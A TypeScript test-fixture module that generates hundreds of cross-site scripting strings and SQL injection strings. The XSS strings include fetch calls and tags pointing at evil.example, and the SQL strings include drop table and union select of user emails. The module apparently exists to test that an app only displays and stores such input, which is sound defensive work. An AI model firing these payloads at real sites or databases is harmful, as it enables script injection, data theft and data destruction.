/** Text that is program elsewhere. It must come back as it went, and run nowhere. */
const CALLS = ['alert(1)', 'window.ran=1', "fetch('//evil.example')", 'top.ran=1'];

const MARKUP = [
  (js: string) => `<script>${js}</script>`,
  (js: string) => `</textarea><script>${js}</script>`,
  (js: string) => `</title><script>${js}</script>`,
  (js: string) => `</style><script>${js}</script>`,
  (js: string) => `</script><script>${js}</script>`,
  (js: string) => `"><script>${js}</script>`,
  (js: string) => `'><script>${js}</script>`,
  (js: string) => `--><script>${js}</script>`,
  (js: string) => `]]><script>${js}</script>`,
  (js: string) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js: string) => `<img src=x onerror=${js}>`,
  (js: string) => `<img src=x onerror="${js}">`,
  (js: string) => `" onmouseover="${js}" x="`,
  (js: string) => `' onfocus='${js}' autofocus x='`,
  (js: string) => `<svg onload=${js}>`,
  (js: string) => `<svg><script>${js}</script></svg>`,
  (js: string) => `<math><mi//xlink:href="data:x,<script>${js}</script>">`,
  (js: string) => `<details open ontoggle=${js}>`,
  (js: string) => `<input autofocus onfocus=${js}>`,
  (js: string) => `<body onload=${js}>`,
  (js: string) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js: string) => `<iframe src="javascript:${js}"></iframe>`,
  (js: string) => `<a href="javascript:${js}">x</a>`,
  (js: string) => `<a href="java\tscript:${js}">x</a>`,
  (js: string) => `[x](javascript:${js})`,
  (js: string) => `![x](x"onerror="${js})`,
  (js: string) => `javascript:${js}`,
  (js: string) => `data:text/html,<script>${js}</script>`,
  (js: string) => `<form action="javascript:${js}"><button>x</button></form>`,
  (js: string) => `<object data="javascript:${js}"></object>`,
  (js: string) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  (js: string) => `<base href="//evil.example/">${js}`,
  (js: string) => `<link rel=stylesheet href="//evil.example/${js}">`,
  (js: string) => `<style>*{background:url(//evil.example/?${js})}</style>`,
  (js: string) => `<!--<img src="--><img src=x onerror=${js}//">`,
  (js: string) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js: string) => `<template><script>${js}</script></template>`,
  (js: string) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js: string) => `&#60;script&#62;${js}&#60;/script&#62;`,
  (js: string) => `%3Cscript%3E${js}%3C/script%3E`,
  (js: string) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  (js: string) => `{{constructor.constructor('${js}')()}}`,
  (js: string) => `\${${js}}`,
  (js: string) => `<%= ${js} %>`,
];

const AROUND = [
  (text: string) => text,
  (text: string) => text.toUpperCase(),
  (text: string) => `x ${text}\u202e`,
];

/** At least 500 texts that a page must only show. */
export const MARKUP_TEXTS: string[] = MARKUP.flatMap((write) =>
  CALLS.flatMap((call) => AROUND.map((change) => change(write(call)))),
);

const QUOTES = ["'", '"', '`', ')', "';", '");', "')", '%', '_', '\\', '*', '--', '/*', ''];
const STATEMENTS = [
  ' or 1=1 --',
  ' or 1=1 /*',
  '; drop table votes; --',
  '; update votes set value=1; --',
  ' union select voter_key from votes --',
  ' union all select sql from sqlite_master --',
  "||(select group_concat(email) from identity_users)||'",
  ' and randomblob(1000000000) --',
  ' order by 99 --',
  ' like %',
  ' glob *',
  '; pragma journal_mode=delete; --',
  '; attach database x as y; --',
  ' 9223372036854775808',
  ' -9007199254740993',
];

/** At least 200 texts that a database must only store. */
export const SQL_TEXTS: string[] = QUOTES.flatMap((quote) =>
  STATEMENTS.map((statement) => `x${quote}${statement}`),
);

/** Puts texts together, line by line, into as few as fit so many characters. */
export function packTexts(texts: string[], maxCharacters: number): string[] {
  const packed: string[] = [];
  for (const text of texts) {
    const last = packed.at(-1);
    const longer = `${last ?? ''}\n${text}`;
    if (last !== undefined && longer.length <= maxCharacters) packed[packed.length - 1] = longer;
    else packed.push(text);
  }
  return packed;
}

/** The text a browser reads where this HTML stands. */
export function decodeHtml(html: string): string {
  const named: Record<string, string> = { lt: '<', gt: '>', quot: '"', amp: '&' };
  return html.replace(/&(?:#(\d+)|#x([\da-f]+)|(lt|gt|quot|amp));/gi, (_, decimal, hex, name) => {
    if (typeof name === 'string') return named[name.toLowerCase()] ?? '';
    const code = typeof decimal === 'string' ? Number(decimal) : parseInt(String(hex), 16);
    return String.fromCodePoint(code);
  });
}
